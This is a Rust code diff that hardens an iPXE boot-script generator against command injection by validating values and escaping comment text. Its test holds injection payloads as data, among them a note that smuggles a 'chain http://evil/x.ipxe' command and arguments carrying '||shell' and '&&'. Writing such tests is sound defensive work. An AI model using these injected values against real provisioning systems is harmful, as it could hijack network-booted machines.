@@ -29,10 +29,48 @@ pub struct Script<'a> {
     pub args: &'a [String],
 }
 
+/// A value the script builder will not write into a script.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+#[error(
+    "{what} {value:?} cannot go into an iPXE script (one word of printable characters without quotes, `$`, `|`, `&`, `;`, `#` or `\\`)"
+)]
+pub struct ScriptError {
+    /// Which value (`kernel argument`, `base URL`).
+    pub what: &'static str,
+    /// The value.
+    pub value: String,
+}
+
+/// Refuses a value that is not one plain word: iPXE expands `${...}`, runs `||` and `&&`, and a newline or space
+/// would start another command or argument.
+fn word<'a>(what: &'static str, value: &'a str) -> Result<&'a str, ScriptError> {
+    if herd_inventory::KernelArg::is_valid(value) {
+        Ok(value)
+    } else {
+        Err(ScriptError { what, value: value.to_owned() })
+    }
+}
+
+/// A comment's text with everything but plain characters as `?`: a machine-reported image name cannot end the
+/// comment line and start a command.
+fn comment(text: &str) -> String {
+    text.chars().map(|c| if c.is_ascii_alphanumeric() || " ._+~:,()/-".contains(c) { c } else { '?' }).collect()
+}
+
 /// The script: the kernel with herd's arguments first (so node-init finds the provisioner, the machine, the MAC,
 /// the token and the mode), then [`Script::args`]; the initramfs; and on failure a retry of the same script after
-/// 10 s.
-pub fn script(s: &Script<'_>) -> String {
+/// 10 s. Every value it did not produce itself is checked ([`ScriptError`]) or, in the comment, escaped.
+pub fn script(s: &Script<'_>) -> Result<String, ScriptError> {
+    word("machine name", s.machine)?;
+    word("token", s.token)?;
+    word("base URL", s.base)?;
+    word("asset URL", s.assets_base)?;
+    if !s.files.is_empty() {
+        word("boot file directory", s.files)?;
+    }
+    for a in s.args {
+        word("kernel argument", a)?;
+    }
     let mode = match s.mode {
         BootMode::Install => "install",
         BootMode::Local => "local",
@@ -47,18 +85,18 @@ pub fn script(s: &Script<'_>) -> String {
     ];
     args.extend(s.args.iter().cloned());
     let dashed = s.mac.to_string().replace(':', "-");
-    format!(
+    Ok(format!(
         "#!ipxe\n# herd: {machine} ({mode_name:?}{note})\nkernel {assets}/assets/{files}vmlinuz {args}\n\
          initrd {assets}/assets/{files}initramfs\nboot || goto failed\n:failed\necho herd: boot failed; retrying in \
          10 s\nsleep 10\nchain {base}/boot/{dashed}.ipxe\n",
         machine = s.machine,
         mode_name = s.mode,
-        note = s.note,
+        note = comment(s.note),
         assets = s.assets_base,
         files = s.files,
         base = s.base,
         args = args.join(" "),
-    )
+    ))
 }
 
 #[cfg(test)]
@@ -82,7 +120,7 @@ mod tests {
     #[test]
     fn an_install_boots_the_served_image_with_herds_arguments_first() {
         let args = ["console=ttyS0".to_owned(), "herd.verity.roothash=aa".to_owned(), "quiet".to_owned()];
-        let text = script(&input(BootMode::Install, "", &args));
+        let text = script(&input(BootMode::Install, "", &args)).unwrap();
         let lines: Vec<&str> = text.lines().collect();
         assert_eq!(lines[0], "#!ipxe");
         assert_eq!(lines[1], "# herd: r01-m01 (Install)");
@@ -102,10 +140,27 @@ mod tests {
     fn a_local_boot_of_a_kept_image_takes_its_files_and_says_which_slot() {
         let mut i = input(BootMode::Local, "images/bb/", &[]);
         i.note = ", slot b: herd-os 2";
-        let text = script(&i);
+        let text = script(&i).unwrap();
         assert!(text.contains("# herd: r01-m01 (Local, slot b: herd-os 2)\n"), "{text}");
         assert!(text.contains("kernel http://10.0.0.2:8080/assets/images/bb/vmlinuz "), "{text}");
         assert!(text.contains(" herd.mode=local\n"), "nothing after herd's arguments: {text}");
         assert!(text.contains("initrd http://10.0.0.2:8080/assets/images/bb/initramfs\n"), "{text}");
+    }
+
+    #[test]
+    fn a_hostile_image_name_stays_inside_the_comment_and_a_hostile_value_is_refused() {
+        let mut i = input(BootMode::Local, "", &[]);
+        i.note = ", slot a: x\nchain http://evil/x.ipxe\n#";
+        let text = script(&i).unwrap();
+        assert!(text.contains("# herd: r01-m01 (Local, slot a: x?chain http://evil/x.ipxe??)\n"), "{text}");
+        assert_eq!(text.lines().filter(|l| l.starts_with("chain ")).count(), 1, "only herd's own retry: {text}");
+        for bad in ["quiet\nshell", "a b", "x=${net0/ip}", "||", "a&&b", "\"q\"", ""] {
+            let args = [bad.to_owned()];
+            let e = script(&input(BootMode::Install, "", &args)).unwrap_err();
+            assert_eq!(e.what, "kernel argument", "{bad:?}");
+        }
+        let mut i = input(BootMode::Install, "", &[]);
+        i.base = "http://10.0.0.2 ||shell";
+        assert_eq!(script(&i).unwrap_err().what, "base URL");
     }
 }
